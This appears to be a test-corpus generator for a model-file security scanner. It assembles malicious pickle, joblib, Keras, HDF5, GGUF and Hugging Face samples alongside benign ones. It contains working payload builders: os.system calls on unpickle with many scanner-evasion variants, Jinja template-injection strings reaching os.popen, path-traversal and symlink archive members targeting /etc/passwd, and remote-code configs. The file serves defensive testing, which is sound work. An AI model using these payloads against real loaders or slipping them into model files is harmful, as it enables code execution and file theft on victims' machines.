"""Write a corpus of malicious and benign model files for the `models` scanner.

    python tests/gen_model_corpus.py OUT_DIR [--no-keras]

Malicious files are assembled opcode by opcode (or written by libraries that only
serialize): nothing here ever loads, unpickles or runs a file it wrote. Layout:
OUT_DIR/malicious/<name>, OUT_DIR/benign/<name>, OUT_DIR/manifest.json ({name: label}).
"""

from __future__ import annotations

import functools
import io
import json
import os
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

COMMAND = "echo corpus-payload-ran > /dev/null"


# ---------------------------------------------------------------- a tiny pickle assembler


def _unicode(text: str, protocol: int) -> bytes:
    raw = text.encode()
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def _string0(text: str) -> bytes:
    return b"S'" + text.encode() + b"'\n"  # protocol 0 STRING


def _proto(protocol: int) -> bytes:
    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""


def _global(module: str, name: str, protocol: int, stack_global: bool) -> bytes:
    if stack_global and protocol >= 4:
        return _unicode(module, protocol) + _unicode(name, protocol) + b"\x93"  # STACK_GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"  # GLOBAL


def _arg(text: str, protocol: int) -> bytes:
    return _string0(text) if protocol == 0 else _unicode(text, max(protocol, 2))


def call(module: str, name: str, arg: str, protocol: int = 2, stack_global: bool = False) -> bytes:
    """func(arg) on load: GLOBAL/STACK_GLOBAL + args + REDUCE."""
    body = _global(module, name, protocol, stack_global)
    if protocol == 0:
        body += b"(" + _arg(arg, 0) + b"tR"
    else:
        body += _arg(arg, protocol) + b"\x85R"  # TUPLE1 REDUCE
    return _proto(protocol) + body + b"."


def call_then_data(module: str, name: str, arg: str, protocol: int = 2) -> bytes:
    """func(arg), its result dropped, then a harmless-looking dict (how a trojan hides)."""
    payload = call(module, name, arg, protocol)[:-1] + b"0"  # POP instead of STOP
    return payload + b"}" + _arg("vocab", protocol) + b"K\x01s."  # EMPTY_DICT key BININT1 SETITEM STOP


def inst(module: str, name: str, arg: str) -> bytes:
    """Protocol 0 INST: MARK args INST module name."""
    return b"(" + _string0(arg) + b"i" + module.encode() + b"\n" + name.encode() + b"\n."


def obj(module: str, name: str, arg: str) -> bytes:
    """Protocol 1 OBJ: MARK class args OBJ."""
    return b"(" + _global(module, name, 1, False) + _arg(arg, 1) + b"o."


def memo_stack_global(module: str, name: str, arg: str) -> bytes:
    """STACK_GLOBAL whose operands come from the memo, as evasive pickles do."""
    body = _unicode(module, 4) + b"\x94" + _unicode(name, 4) + b"\x94" + b"0" + b"0"  # MEMOIZE, POP both
    body += b"h\x00h\x01\x93" + _arg(arg, 4) + b"\x85R."  # BINGET 0, BINGET 1, STACK_GLOBAL
    return _proto(4) + body


def getattr_trick(module: str, attribute: str, arg: str, protocol: int = 2) -> bytes:
    """getattr(importlib.import_module(module), attribute)(arg)."""
    imported = _global("importlib", "import_module", protocol, False) + _arg(module, protocol) + b"\x85R"
    getter = _global("builtins", "getattr", protocol, False) + imported + _arg(attribute, protocol) + b"\x86R"
    return _proto(protocol) + getter + _arg(arg, protocol) + b"\x85R."


def dynamic_module(arg: str) -> bytes:
    """STACK_GLOBAL whose module name is computed by a call (str('os')): an import no scanner can read."""
    module = _global("builtins", "str", 4, True) + _unicode("os", 4) + b"\x85R"
    return _proto(4) + module + _unicode("system", 4) + b"\x93" + _unicode(arg, 4) + b"\x85R."


def nested_pickle_loads(inner: bytes) -> bytes:
    """pickle.loads(<malicious pickle bytes>): a payload inside a payload."""
    return _proto(3) + b"cpickle\nloads\n" + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R."


# ---------------------------------------------------------------- containers (written, never read back)


def torch_zip(data_pkl: bytes, prefix: str = "archive") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        # a fixed member time: the same bytes at any hour (writestr with a name stamps the local clock)
        for name, data in ((f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little"),
                           (f"{prefix}/data/0", b"\x00" * 16), (f"{prefix}/version", b"3\n")):
            archive.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def npy_object(pickle_bytes: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle_bytes


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def keras_archive(config: dict) -> bytes:
    return zip_of(
        {
            "metadata.json": json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01"}).encode(),
            "config.json": json.dumps(config).encode(),
        }
    )


def _lambda_layer_config() -> dict:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "exfil",
            "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHwAUwCpAU6pAKkB2gF4cwEAAAAg"}},
        },
        "registered_name": None,
    }


def keras_config_with(layer: dict) -> dict:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [{"module": "keras.layers", "class_name": "InputLayer",
                                                      "config": {"batch_shape": [None, 4]}}, layer]},
    }


def h5_with_config(path: Path, config: dict) -> None:
    import h5py  # writing an attribute only

    with h5py.File(path, "w") as handle:
        handle.attrs["model_config"] = json.dumps(config)
        handle.attrs["backend"] = "torch"
        handle.create_group("model_weights")


def joblib_with_payload(path: Path, compress: int = 0) -> None:
    """joblib.dump of an array followed by an object whose reduce is posix.system (serialized, not run)."""
    import joblib
    import numpy as np

    class Payload:
        def __reduce__(self):
            return (os.system, (COMMAND,))

    joblib.dump({"weights": np.arange(32, dtype="float64"), "hook": Payload()}, path, compress=compress)


def npy_object_via_numpy(path: Path) -> None:
    import numpy as np

    class Payload:
        def __reduce__(self):
            return (os.system, (COMMAND,))

    array = np.empty(2, dtype=object)
    array[0], array[1] = "ok", Payload()
    np.save(path, array, allow_pickle=True)


# ---------------------------------------------------------------- red-team classes (issue 12)

TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(object_pickle: bytes) -> bytes:
    """Legacy torch.save layout: magic, protocol version, sys info, the object, storage keys."""
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (pickle.dumps(TORCH_LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps(info, protocol=2) + object_pickle + pickle.dumps([], protocol=2))


def npy_with_descr(descr: str, pickle_bytes: bytes) -> bytes:
    header = "{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle_bytes


def _dtype_p2(descr: str, elsize: int = -1, alignment: int = -1, flags: int = 0) -> bytes:
    state = (3, "<", None, None, None, elsize, alignment, flags)
    return b"cnumpy\ndtype\n" + _arg(descr, 2) + b"\x89\x88\x87R" + _py(state) + b"b"


def _py(value: object) -> bytes:
    """A literal as protocol 2 opcodes, without PROTO and STOP."""
    return pickle.dumps(value, protocol=2)[2:-1]


def joblib_inline_array(descr: str, shape: tuple[int, ...], data: bytes, payload: bytes, *, elsize: int = -1,
                        alignment: int | None = 16, padding: bytes | None = None) -> bytes:
    """A joblib NumpyArrayWrapper followed by raw array bytes (as joblib writes them), then `payload` opcodes.

    The padding and array bytes may hold b'.' (a fake STOP) to end a walk that does not skip them."""
    wrapper = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
    wrapper += _arg("subclass", 2) + b"cnumpy\nndarray\n"
    wrapper += _arg("shape", 2) + _py(shape)
    wrapper += _arg("order", 2) + _arg("C", 2)
    wrapper += _arg("dtype", 2) + _dtype_p2(descr, elsize=elsize, alignment=4 if elsize > 0 else -1,
                                            flags=8 if elsize > 0 else 0)
    wrapper += _arg("allow_mmap", 2) + b"\x89"
    if alignment is not None:
        wrapper += _arg("numpy_array_alignment_bytes", 2) + _py(alignment)
    wrapper += b"ub"
    raw = b""
    if alignment is not None:
        pad = padding if padding is not None else b"." * 7
        raw += bytes([len(pad)]) + pad
    raw += data
    return wrapper + raw + b"0" + payload[2:-1] + b"0N."


def gadget_call(module: str, name: str, *args: object) -> bytes:
    body = _global(module, name, 2, False) + _py(tuple(args)) + b"R"
    return b"\x80\x02" + body + b"."


def rebuild_from_type_gadget() -> bytes:
    """torch's allow-listed _rebuild_from_type_v2 calling a function object built in the pickle."""
    func = gadget_call("dataclasses", "FunctionType", "code", {})[2:-1]
    return (b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(" + func + b"ctorch\nTensor\n" + _py(()) + b"Ntq\x00R.")


def second_build_setstate() -> bytes:
    """An instance whose first BUILD plants __setstate__ = os.system; the second BUILD calls it."""
    obj = b"\x80\x02ccollections\nOrderedDict\n)R"
    first = b"}" + _arg("__setstate__", 2) + b"cposix\nsystem\nsb"
    return obj + first + _arg(COMMAND, 2) + b"b."


def frame_first(inner_body: bytes) -> bytes:
    """Protocol 4 pickle that starts with FRAME (no PROTO opcode first)."""
    return b"\x95" + struct.pack("<Q", len(inner_body)) + inner_body


def keras_zip_config(config_bytes: bytes, prepend: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", config_bytes)
    return prepend + buffer.getvalue()


def h5_user_block(path: Path, config: dict) -> None:
    import h5py

    with h5py.File(path, "w", userblock_size=512) as handle:
        handle.attrs["model_config"] = json.dumps(config)
        handle.create_group("model_weights")


def tar_of(members: dict[str, bytes], compression: str = "") -> bytes:
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=f"w:{compression}") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def gz(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


def zlib_joblib(data: bytes) -> bytes:
    import zlib

    return zlib.compress(data)


def lzma_alone(data: bytes, dict_size: int) -> bytes:
    """An .lzma (alone) stream whose header joblib detects by its two-byte prefix only."""
    import lzma

    return lzma.compress(data, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dict_size}])


def safetensors_bytes(header: dict, data: bytes = b"") -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def torch_tar(views_pickle: bytes) -> bytes:
    """torch's oldest format: a tar of `storages` (count, per-storage args + raw bytes, views), `tensors`, `pickle`."""
    storage_args = b"\x80\x02(K\x00X\x03\x00\x00\x00cpuctorch\nFloatStorage\ntq\x00."
    storages = pickle.dumps(1, protocol=2) + storage_args + struct.pack("<q", 2) + b"." * 8 + views_pickle
    return tar_of({"storages": storages, "tensors": pickle.dumps(0, protocol=2),
                   "pickle": pickle.dumps({"weight": 1}, protocol=2)})


def h5_external(path: Path, how: str, target: str = "/etc/passwd") -> None:
    """A Keras-style weights file whose kernel reads another file: HDF5 external storage, a virtual dataset, or
    an external link in place of the `model_weights` group. Only layouts are written: no target is read."""
    import h5py

    with h5py.File(path, "w") as h5:
        h5.attrs["keras_version"] = "3.0.0"
        if how == "link":
            h5["model_weights"] = h5py.ExternalLink(target, "/model_weights")
            return
        group = h5.create_group("model_weights").create_group("dense").create_group("vars")
        if how == "storage":
            group.create_dataset("0", shape=(4, 4), dtype="f4", external=[(target, 0, 64)])
        else:
            layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
            layout[:] = h5py.VirtualSource(target, "data", shape=(4,))
            group.create_virtual_dataset("0", layout)


def h5_external_bytes(how: str, target: str = "/etc/passwd") -> bytes:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.weights.h5"
        h5_external(path, how, target)
        return path.read_bytes()


def keras_with_weights(weights: bytes) -> bytes:
    """A `.keras` archive: a plain Dense config and the given `model.weights.h5`."""
    config = keras_config_with({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 4}})
    return zip_of({"config.json": json.dumps(config).encode(), "metadata.json": b'{"keras_version": "3.0.0"}',
                   "model.weights.h5": weights})


def hf_remote_code(path: Path, module: str, source: str, key: str = "AutoModel") -> None:
    """A Hugging Face config whose auto_map makes trust_remote_code import `module.py`, written beside it."""
    path.write_text(json.dumps({"model_type": "custom", "architectures": ["CustomModel"],
                                "auto_map": {key: f"{module}.CustomModel"}}), encoding="utf-8")
    (path.parent / f"{module}.py").write_text(source, encoding="utf-8")


def gguf_header(tensors: int, kvs: int, body: bytes = b"") -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, kvs) + body


def zstd(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor().compress(data)


def red_team_files() -> dict[str, bytes | Callable[[Path], None]]:
    system = call("os", "system", COMMAND, 2)
    files: dict[str, bytes | Callable[[Path], None]] = {
        # 1. legacy torch.save with the object pickle in protocol 0 (and 1)
        "legacy_torch_p0.pt": torch_legacy(call("os", "system", COMMAND, 0)),
        "legacy_torch_p1_inst.pt": torch_legacy(inst("posix", "system", COMMAND)),
        "legacy_torch_tar.pt": torch_tar(call("os", "system", COMMAND, 0)),
        # 2. numpy object dtypes however they are spelled
        "descr_object.npy": npy_with_descr("'object'", call("os", "system", COMMAND, 3)),
        "descr_object_underscore.npy": npy_with_descr("'object_'", system),
        "descr_structured_object.npy": npy_with_descr("[('a', '<f8'), ('b', '|O')]", system),
        "descr_subarray_object.npy": npy_with_descr("[('a', '|O', (2,))]", system),
        "descr_object.npz": zip_of({"w.npy": npy_with_descr("'object'", system)}),
        # 3. joblib inline arrays: padding without allow_mmap, fake STOPs, <U at 4 bytes per char, zlib
        "joblib_padding_fake_stop.joblib": joblib_inline_array("f8", (2,), b"." * 16, system),
        "joblib_unicode_array.joblib": joblib_inline_array("U3", (2,), "ab.cd.".encode("utf-32-le"), system,
                                                           elsize=12),
        "joblib_no_alignment.joblib": joblib_inline_array("i4", (3,), b"...." * 3, system, alignment=None),
        "joblib_zlib.joblib": zlib_joblib(joblib_inline_array("f8", (2,), b"." * 16, system)),
        # 4. gadgets in and through trusted namespaces
        "scipy_fortranfile.pkl": gadget_call("scipy.io", "FortranFile", "/tmp/x", "w"),
        "numpy_dotted_fileio.pkl": b"\x80\x04" + _unicode("numpy", 4) + _unicode("lib.format.io.FileIO", 4)
        + b"\x93" + _py(("/tmp/x", "w")) + b"R.",
        "sklearn_gzipfile.pkl": gadget_call("sklearn.datasets._base", "GzipFile", "/tmp/x", "wb"),
        "pandas_codetype.pkl": gadget_call("jinja2.utils", "CodeType", 0),
        "rebuild_from_type_gadget.pt": torch_zip(rebuild_from_type_gadget()),
        "second_build_setstate.pkl": second_build_setstate(),
        "gzip_gzipfile.pkl": gadget_call("gzip", "GzipFile", "/tmp/x", "wb"),
        "py2_basehttpserver.pkl": gadget_call("BaseHTTPServer", "HTTPServer", ("0.0.0.0", 8000), "x"),
        # 5. format decided by structure, not first bytes
        "none_pop_first.pkl": b"N0" + call("os", "system", COMMAND, 0),
        "frame_first.pkl": frame_first(_global("os", "system", 4, True) + _arg(COMMAND, 4) + b"\x85R."),
        "config_spaces.keras": keras_zip_config(b" " * 16 + json.dumps(keras_config_with(_lambda_layer_config()))
                                                .encode()),
        "config_bom.keras": keras_zip_config(b"\xef\xbb\xbf" + json.dumps(keras_config_with(
            _lambda_layer_config())).encode()),
        "config_utf16.keras": keras_zip_config(json.dumps(keras_config_with(_lambda_layer_config())).encode("utf-16")),
        "keras_metadata.pb": _pb_field(1, _pb_field(3, json.dumps(_lambda_layer_config()).encode())),
        "joblib_lzma_small_dict.joblib": lzma_alone(system, dict_size=4096),
        "prepended.keras": keras_zip_config(json.dumps(keras_config_with(_lambda_layer_config())).encode(),
                                            prepend=safetensors_bytes({})[:10]),
        "tfsmlayer.keras": keras_archive(keras_config_with({"module": "keras.layers", "class_name": "TFSMLayer",
                                                            "config": {"name": "t", "filepath": "/tmp/sm"}})),
        "keras_get_file.keras": keras_archive(keras_config_with({"module": "keras.utils", "class_name": "function",
                                                                 "config": "get_file"})),
        "lambda_activation.keras": keras_archive(keras_config_with({
            "module": "keras.layers", "class_name": "Dense",
            "config": {"name": "d", "units": 2, "activation": {"class_name": "__lambda__", "config": {
                "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHwAUwCpAU6pAKkB2gF4cwEAAAAg"}}}})),
        "registered_tfsm.keras": keras_archive(keras_config_with({
            "module": "keras.layers", "class_name": "Dense", "registered_name": "TFSMLayer",
            "config": {"name": "t", "filepath": "/tmp/sm"}})),
        "user_block.h5": lambda path: h5_user_block(path, keras_config_with(_lambda_layer_config())),
        # 6. containers
        "zip_with_zlib_joblib.zip": zip_of({"model.joblib": zlib_joblib(system)}),
        "zip_with_pkl_gz.zip": zip_of({"model.pkl.gz": gz(system)}),
        "model.pkl.gz": gz(system),
        "model.tar": tar_of({"model.pkl": system}),
        "model.tar.gz": tar_of({"model.pkl": system}, "gz"),
        "zip_in_tar.tar": tar_of({"inner.zip": zip_of({"data.pkl": system})}),
        # 8. crafted safetensors headers: a finding for the file, never a crash of the scanner
        "weight_is_number.safetensors": safetensors_bytes({"weight": 5}),
        "offsets_are_text.safetensors": safetensors_bytes({"w": {"dtype": "F32", "shape": [1],
                                                                 "data_offsets": "ab"}}, b"\x00" * 4),
        # ONNX tensor whose external data leaves the folder; GGUF chat template reaching Python internals
        "external_data.onnx": onnx_with_external("../../../etc/passwd"),
        "saved_model.pb": _pb_field(1, _pb_field(1, b"read") + _pb_field(2, b"ReadFile")),
        "template_context.gguf": gguf_bytes({"tokenizer.chat_template":
                                             "{{ self._TemplateReference__context.joiner.__init__ }}"}),
        "template_injection.gguf": gguf_bytes({"tokenizer.chat_template":
                                               "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
        # 9. HDF5 weights that read other files (CVE-2026-1669 class): external storage, virtual dataset, link
        "external_storage.h5": lambda path: h5_external(path, "storage"),
        "external_storage.weights.h5": lambda path: h5_external(path, "storage", "../../secrets.bin"),
        "external_storage.keras": keras_with_weights(h5_external_bytes("storage")),
        "virtual_dataset.h5": lambda path: h5_external(path, "virtual", "/var/lib/other.h5"),
        "external_link.h5": lambda path: h5_external(path, "link", "/tmp/other.h5"),
        # 10. Hugging Face remote code that trust_remote_code imports: reviewed (HIGH), or reaching the shell
        "config.json": lambda path: hf_remote_code(path, "modeling_redteam", (
            "import os\n\nos.system('echo corpus-payload-ran > /dev/null')\n\n\nclass CustomModel:\n    pass\n")),
        "remote_tokenizer_config.json": lambda path: hf_remote_code(path, "tokenization_redteam", (
            "class CustomModel:\n    vocab_size = 3\n"), key="AutoTokenizer"),
        # 11. GGUF headers whose counts and lengths the file cannot hold (a loader allocating by them)
        "tensor_count_huge.gguf": gguf_header((1 << 63) - 1, 0),
        "kv_count_huge.gguf": gguf_header(0, 1 << 40),
        "string_past_end.gguf": gguf_header(0, 1, struct.pack("<Q", 1 << 40) + b"k" * 64),
        # 12. compressed pickles: zstd is read; what cannot be decompressed here is never left out of the count
        "payload.pkl.zst": zstd(system),
        "payload.pkl.lz4": b"\x04\x22\x4d\x18" + b"\x00" * 32,
        "payload.7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 32,
    }
    files.update(red_team_b_files())
    return files


def _pb_varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _pb_field(number: int, payload: bytes) -> bytes:
    return _pb_varint(number << 3 | 2) + _pb_varint(len(payload)) + payload


def onnx_with_external(location: str | None) -> bytes:
    """A minimal ONNX ModelProto: ir_version, one graph with one initializer (external data or raw bytes)."""
    tensor = _pb_field(8, b"w") + _pb_varint(2 << 3) + _pb_varint(1)  # name, data_type FLOAT
    if location is None:
        tensor += _pb_field(9, b"\x00" * 4)  # raw_data
    else:
        entry = _pb_field(1, b"location") + _pb_field(2, location.encode())
        tensor += _pb_field(13, entry) + _pb_varint(14 << 3) + _pb_varint(1)
    graph = _pb_field(2, b"g") + _pb_field(5, tensor)
    return _pb_varint(1 << 3) + _pb_varint(9) + _pb_field(7, graph)


def gguf_bytes(meta: dict[str, str]) -> bytes:
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(meta))
    for key, value in meta.items():
        raw_key, raw_value = key.encode(), value.encode()
        out += struct.pack("<Q", len(raw_key)) + raw_key + struct.pack("<I", 8)
        out += struct.pack("<Q", len(raw_value)) + raw_value
    return out


# ---------------------------------------------------------------- red-team set B classes (issue 12)


def tar_with_links(links: dict[str, str], files: dict[str, bytes] | None = None, compression: str = "",
                   hard: bool = False) -> bytes:
    """A tar of link members (name -> target) and plain files: what `tar x` would recreate, never extracted here."""
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=f"w:{compression}") as archive:
        for name, data in (files or {}).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in links.items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)
    return buffer.getvalue()


def hf_file(content: dict | str, beside: dict[str, str] | None = None) -> Callable[[Path], None]:
    """A Hugging Face file (JSON or a template) and the files written beside it."""
    def write(path: Path) -> None:
        text = content if isinstance(content, str) else json.dumps(content)
        path.write_text(text, encoding="utf-8")
        for name, source in (beside or {}).items():
            (path.parent / name).write_text(source, encoding="utf-8")

    return write


SSTI_GLOBALS_WALK = "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for m in messages %}{{ m.content }}{% endfor %}"
SSTI_ATTR_CONCAT = ("{% set g = '__glo' ~ 'bals__' %}{{ (lipsum|attr(g))['o' ~ 's']|attr('po' ~ 'pen')('id') }}"
                    "{% for m in messages %}{{ m.content }}{% endfor %}")
SSTI_HEX_ESCAPES = "{{ joiner|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"
SSTI_FORMAT_BUILT = "{{ namespace[('%c%c' % (95, 95)) ~ 'init' ~ ('%c%c' % (95, 95))] }}"
BENIGN_CHAT_TEMPLATE = (
    "{% set ns = namespace(system=false) %}{% for m in messages %}{% if m['role'] == 'system' %}"
    "{% set ns.system = true %}{% endif %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] | trim }}"
    "{% if m.tool_calls %}{% for t in m.tool_calls %}{{ t.function.name }}{{ t.function.arguments | tojson }}"
    "{% endfor %}{% endif %}{{ '<|im_end|>\\n' }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\\n' }}{% endif %}{{ messages[1:] | map(attribute='content') | join(', ') }}"
)


def red_team_b_files() -> dict[str, bytes | Callable[[Path], None]]:
    """Set B classes: archive members that leave the folder, chat templates reaching Python, pipelines as
    remote code. Inert: nothing here is extracted, rendered or imported."""
    return {
        "traversal_member.tar": tar_of({"../../../tmp/canary.pkl": pickle.dumps("hello", 2)}),
        "traversal_member.zip": zip_of({"../../canary.py": b"print('hello')\n"}),
        "symlink_to_passwd.tar.gz": tar_with_links({"pytorch_model.bin": "/etc/passwd"}, compression="gz"),
        "hardlink_out.tar": tar_with_links({"weights.bin": "../../etc/passwd"}, hard=True),
        "symlink_chain.tar": tar_with_links({"l": ".", "u1": "l/..", "tickets.csv": "u1/etc/passwd"}),
        "ssti_tokenizer_config.json": hf_file({"tokenizer_class": "PreTrainedTokenizerFast",
                                              "chat_template": SSTI_GLOBALS_WALK}),
        "ssti_list_tokenizer_config.json": hf_file({"chat_template": [
            {"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": SSTI_HEX_ESCAPES}]}),
        "chat_template.jinja": hf_file(SSTI_ATTR_CONCAT),
        "chat_template.json": hf_file({"chat_template": SSTI_FORMAT_BUILT}),
        "custom_pipeline_config.json": hf_file(
            {"model_type": "bert", "custom_pipelines": {"t": {"impl": "redteam_pipeline.Pipe", "pt": ["AutoModel"]}}},
            {"redteam_pipeline.py": "import os\nos.system('echo corpus-payload-ran > /dev/null')\n"}),
    }


def persid_first_zip() -> bytes:
    """A torch zip whose bytes, read from byte 0 as a pickle, are PERSID up to the first newline and then an
    EXT opcode (a real `torch.save` of an RNG state does this by chance): it is a zip, not a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        members = {"rng_state/data/0": b"\n\x82\x01" + bytes(range(11, 256)),
                   "rng_state/data.pkl": pickle.dumps({"a": 1}, 2), "rng_state/version": b"3\n"}
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)  # stored, fixed date
    return buffer.getvalue()


def _training_args(path: Path) -> None:
    """transformers' Trainer writes `training_args.bin` with torch.save(TrainingArguments); without transformers
    installed, the same globals and layout are written from opcodes (as its saver emits them)."""
    import torch

    try:
        from transformers import TrainingArguments
    except ImportError:
        path.write_bytes(torch_zip(_training_args_opcodes(), "training_args"))
        return
    torch.save(TrainingArguments(output_dir=str(path.parent / "trainer_out"), report_to=[]), path)


def _training_args_opcodes() -> bytes:
    def enum(module: str, name: str, value: str) -> bytes:
        return f"c{module}\n{name}\n".encode() + _py(value) + b"\x85R"

    def instance(module: str, name: str, state: bytes) -> bytes:
        return f"c{module}\n{name}\n".encode() + b")\x81}(" + state + b"ub"

    state = (_py("output_dir") + _py("trainer_out") + _py("learning_rate") + _py(5e-05)
             + _py("lr_scheduler_type") + enum("transformers.trainer_utils", "SchedulerType", "linear")
             + _py("optim") + enum("transformers.training_args", "OptimizerNames", "adamw_torch_fused")
             + _py("logging_strategy") + enum("transformers.trainer_utils", "IntervalStrategy", "steps")
             + _py("save_strategy") + enum("transformers.trainer_utils", "SaveStrategy", "steps")
             + _py("hub_strategy") + enum("transformers.trainer_utils", "HubStrategy", "every_save")
             + _py("accelerator_config") + instance("transformers.trainer_pt_utils", "AcceleratorConfig",
                                                    _py("split_batches") + _py(False))
             + _py("distributed_state") + instance("accelerate.state", "PartialState", _py("device") + b"ctorch\ndevice\n"
                                                   + _py("cpu") + b"\x85R" + _py("distributed_type")
                                                   + enum("accelerate.utils.dataclasses", "DistributedType", "NO")))
    return b"\x80\x02" + instance("transformers.training_args", "TrainingArguments", state) + b"."


def _transformer_layer(path: Path) -> None:
    import torch

    torch.manual_seed(0)
    torch.save(torch.nn.TransformerEncoderLayer(d_model=8, nhead=2, dim_feedforward=16), path)


def _gaussian_process(path: Path) -> None:
    import numpy as np
    from sklearn.gaussian_process import GaussianProcessRegressor
    from sklearn.gaussian_process.kernels import RBF, WhiteKernel

    x = np.linspace(0, 1, 12).reshape(-1, 1)
    model = GaussianProcessRegressor(kernel=RBF() + WhiteKernel(), random_state=np.random.RandomState(0))
    model.fit(x, np.sin(x).ravel())
    path.write_bytes(pickle.dumps(model, protocol=4))  # the default: protocol 5 is beyond fickling's parser


def _masked_and_generator(path: Path) -> None:
    import numpy as np

    value = {"masked": np.ma.masked_array([1.0, 2.0, 3.0], mask=[0, 1, 0]), "rng": np.random.default_rng(0),
             "legacy": np.random.RandomState(0)}
    path.write_bytes(pickle.dumps(value, protocol=4))


def benign_b_files() -> dict[str, bytes | Callable[[Path], None]]:
    """Set B benign classes: the libraries' own savers, and a chat template as real models ship it."""
    return {
        "training_args.bin": _training_args,
        "transformer_layer.pt": _transformer_layer,
        "gp_rbf.pkl": _gaussian_process,
        "masked_and_generator.pkl": _masked_and_generator,
        "rng_state_zip.pth": persid_first_zip(),
        "hf_tokenizer_config.json": hf_file({"tokenizer_class": "PreTrainedTokenizerFast",
                                            "chat_template": BENIGN_CHAT_TEMPLATE}),
        "benign_chat_template.jinja": hf_file(BENIGN_CHAT_TEMPLATE),
        "in_archive_link.tar": tar_with_links({"weights/current.bin": "v1.bin"}, {"weights/v1.bin": b"\x00" * 16}),
    }


# ---------------------------------------------------------------- set C: loaders that run code, carriers in HDF5


def _folder(files: dict[str, str | bytes]) -> Callable[[Path], None]:
    """A model folder (the sample is the folder): its files, text or bytes, by relative path."""
    def write(path: Path) -> None:
        for name, content in files.items():
            target = path / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content.encode() if isinstance(content, str) else content)

    return write


def pytables_object_array(compression: str | None) -> Callable[[Path], None]:
    """What PyTables writes for an ObjectAtom VLArray (pandas HDFStore object data): each row a pickle,
    read back with pickle.loads. Written with h5py and PyTables' attributes; the row is never unpickled."""
    def write(path: Path) -> None:
        import h5py
        import numpy as np

        row = np.frombuffer(call("os", "system", COMMAND, 2), dtype=np.uint8)
        with h5py.File(path, "w") as h5:
            h5.attrs.update({"CLASS": b"GROUP", "PYTABLES_FORMAT_VERSION": b"2.1", "TITLE": b"", "VERSION": b"1.0"})
            dataset = h5.create_dataset("obj", shape=(1,), maxshape=(None,), chunks=(1,), compression=compression,
                                        dtype=h5py.vlen_dtype(np.uint8))
            dataset[0] = row
